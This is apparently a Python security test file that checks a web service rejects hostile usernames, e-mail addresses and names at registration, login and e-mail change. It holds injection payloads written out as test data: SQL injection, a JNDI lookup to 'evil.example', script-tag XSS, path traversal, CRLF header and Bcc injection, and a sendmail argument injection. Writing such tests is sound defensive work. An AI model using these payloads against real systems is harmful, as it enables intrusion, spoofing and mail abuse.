"""Usernames, e-mail addresses and names that are somebody else's, or nobody's."""

import json
from itertools import chain

from tests.attack.case import Ask, Case, any_of

_PASSWORD = "nine grey herons at first light"
_NEW = frozenset({"users"})
_422 = any_of(422)


def _register(title: str, statuses: frozenset[int], code: str, /, **fields: str) -> Case:
    body = json.dumps({"username": "mallory", "password": _PASSWORD} | fields).encode()
    accepted = 201 in statuses
    return Case(title, Ask("POST", "/register", body), statuses, code, may_say=accepted,
                may_change=_NEW if accepted else frozenset())  # fmt: skip


def _not_a_username(title: str, username: str) -> Case:
    return _register(f"username: {title}", _422, "invalid_request", username=username)


def _not_an_address(title: str, email: str) -> tuple[Case, Case]:
    body = json.dumps({"email": email}).encode()
    ask = Ask("PATCH", "/user", body, bearer="<<attacker.access>>")
    return (
        _register(f"e-mail: {title}", _422, "invalid_request", email=email),
        Case(f"a change of e-mail: {title}", ask, _422, "invalid_request"),
    )


_USERNAMES = (
    *(
        _not_a_username(title, username)
        for title, username in (
            ("two letters", "ab"),
            ("65 letters", "a" * 65),
            ("none", ""),
            ("a space", "vic tim"),
            ("spaces around", " victim "),
            ("an at sign", "victim@example.com"),
            ("a NUL", "victim\0"),
            ("a line break", "victim\r\nSet-Cookie: a=b"),
            ("a line separator", "victim\u2028x"),
            ("an ESC", "victim\x1b[2J"),
            ("a zero-width joiner", "vic\u200dtim"),
            ("a zero-width space", "vic\u200btim"),
            ("a soft hyphen", "vic\u00adtim"),
            ("a word joiner", "vic\u2060tim"),
            ("a right-to-left override", "\u202emitciv"),
            ("isolates", "\u2066victim\u2069"),
            ("mixed directions", "victimא1"),
            ("a variation selector", "victim\ufe0f"),
            ("a filler that shows nothing", "victim\u3164"),
            ("a ligature", "ofﬁce"),
            ("an emoji", "victim😀"),
            ("a private character", "victim\ue000"),
            ("a code point that is none", "victim\uffff"),
            ("a lone surrogate", "victim\ud800"),
            ("a tag character", "victim\U000e0041"),
            ("a leading dot", ".victim"),
            ("a leading mark", "\u0301victim"),
            ("a path", "../../etc/passwd"),
            ("a percent sign", "victim%00"),
            ("SQL", "' OR '1'='1"),
            ("a template", "{{7*7}}"),
            ("a look-up", "${jndi:ldap://evil.example/x}"),
            ("markup", "<script>alert(1)</script>"),
            ("a comma", "victim,root"),
            ("a star", "*"),
            ("a roman numeral", "victimⅣ"),
            ("a superscript", "victim²"),
            ("letters in circles", "ⓥictim"),
            ("200 marks", "victim" + "\u0301" * 200),
        )
    ),
    # A043, A044: other spellings of the victim's own name
    *(
        _register(f"the victim's name {title}", any_of(409), "username_taken", username=username)
        for title, username in (
            ("in capital letters", "VICTIM"),
            ("in full width", "ｖｉｃｔｉｍ"),
        )
    ),
    _register("the name of a composed letter, decomposed", any_of(409), "username_taken", username="Andre\u0301e"),
    _register("the name with a sharp s, in capitals", any_of(409), "username_taken", username="STRASSE"),
    # Lookalikes are other names: they must not reach the victim's account.
    Case("a login under a lookalike", Ask("POST", "/login", json.dumps(
        {"username": "vіctim", "password": "<<victim.password>>"}).encode()), any_of(401), "invalid_credentials"),
    Case("a login under a name with a space", Ask("POST", "/login", json.dumps(
        {"username": "victim ", "password": "<<victim.password>>"}).encode()), any_of(401), "invalid_credentials"),
    Case("a login under a name with a NUL", Ask("POST", "/login", json.dumps(
        {"username": "victim\0", "password": "<<victim.password>>"}).encode()), any_of(401), "invalid_credentials"),
    Case("a login under a pattern", Ask("POST", "/login", json.dumps(
        {"username": "v%ctim", "password": "<<victim.password>>"}).encode()), any_of(401), "invalid_credentials"),
    Case("a login as nobody by SQL", Ask("POST", "/login", json.dumps(
        {"username": "x' UNION SELECT * FROM users --", "password": "x"}).encode()), any_of(401),
        "invalid_credentials"),
)  # fmt: skip

_ADDRESSES = (  # A045, A046, A047
    *chain.from_iterable(
        _not_an_address(title, email)
        for title, email in (
            ("no at sign", "victim.example.com"),
            ("two at signs", "a@b@example.com"),
            ("no local part", "@example.com"),
            ("no domain", "a@"),
            ("no dot", "a@localhost"),
            ("a reserved domain", "a@victim.test"),
            ("a list", "a@example.com,b@example.com"),
            ("a list with a semicolon", "a@example.com; b@example.com"),
            ("a further recipient", "a@example.com\r\nBcc: b@example.com"),
            ("a further recipient, encoded", "a@example.com%0d%0aBcc:b@example.com"),
            ("a NUL", "a@example.com\0"),
            ("a display name", "Ada <a@example.com>"),
            ("brackets", "<a@example.com>"),
            ("quotes", '"a b"@example.com'),
            ("a comment", "a(x)@example.com"),
            ("a comment in the domain", "a@(x)example.com"),
            ("an address literal", "a@[127.0.0.1]"),
            ("an IPv6 literal", "a@[IPv6:::1]"),
            ("an IPv4 address", "a@127.0.0.1"),
            ("a space before", " a@example.com"),
            ("a space after", "a@example.com "),
            ("a dot before", ".a@example.com"),
            ("a dot after", "a.@example.com"),
            ("two dots", "a..b@example.com"),
            ("a dot after the domain", "a@example.com."),
            ("two dots in the domain", "a@example..com"),
            ("an underscore in the domain", "a@exa_mple.com"),
            ("a hyphen before a label", "a@-example.com"),
            ("a local part of 65", "a" * 65 + "@example.com"),
            ("255 characters", "a@" + ".".join(["b" * 61] * 4) + ".example"),
            ("a label of 64", "a@" + "b" * 64 + ".com"),
            ("a full-width letter", "ａ@example.com"),
            ("a dotless i", "mıke@example.com"),
            ("a ligature", "ﬁ@example.com"),
            ("KELVIN SIGN in the domain", "a@\u212aelvin.com"),
            ("full width in the domain", "a@ｅxample.com"),
            ("an ideographic full stop", "a@example。com"),
            ("a full-width at sign", "a＠example.com"),
            ("a joiner in the domain", "a@exa\u200dmple.com"),
            ("an emoji in the domain", "a@😀.com"),
            ("an A-label that is none", "a@xn--a.com"),
            ("an override in the domain", "a@\u202emoc.elpmaxe"),
            ("a local part beyond ASCII", "ü@example.com"),
            ("a lone surrogate", "a@example.com\ud800"),
            ("a percent route", "a%evil.example@[example.com]"),
            ("a route", "@evil.example:a@example.com"),
            ("a command", "a@example.com -OQueueDirectory=/tmp"),
        )
    ),
    _register("the victim's address in capital letters", any_of(409), "email_taken", email="VICTIM@EXAMPLE.ORG"),
    _register("the victim's address with the domain in capitals", any_of(409), "email_taken",
              email="victim@Example.ORG"),
    Case("a change to the victim's address", Ask("PATCH", "/user", b'{"email": "Victim@example.org"}',
         bearer="<<attacker.access>>"), any_of(409), "email_taken"),
    Case("a login under an address beyond ASCII", Ask("POST", "/login", json.dumps(  # A036
        {"username": "vıctim@example.org", "password": "<<victim.password>>"}).encode()), any_of(401),
        "invalid_credentials"),
)  # fmt: skip

_NAMES = tuple(  # A102
    _register(f"name: {title}", _422, "invalid_request", name=name)
    for title, name in (
        ("none", ""),
        ("spaces", "   "),
        ("129 characters", "a" * 129),
        ("a line break", "Ada\nRoot"),
        ("a carriage return", "Ada\rRoot"),
        ("a line separator", "Ada\u2028Root"),
        ("an ESC", "Ada\x1b]0;x\x07"),
        ("a NUL", "Ada\0"),
        ("an override", "Ada\u202etooR"),
        ("an isolate", "Ada\u2066"),
        ("a next line", "Ada\u0085Root"),
        ("a lone surrogate", "Ada\udfff"),
    )
)

CASES = (*_USERNAMES, *_ADDRESSES, *_NAMES)
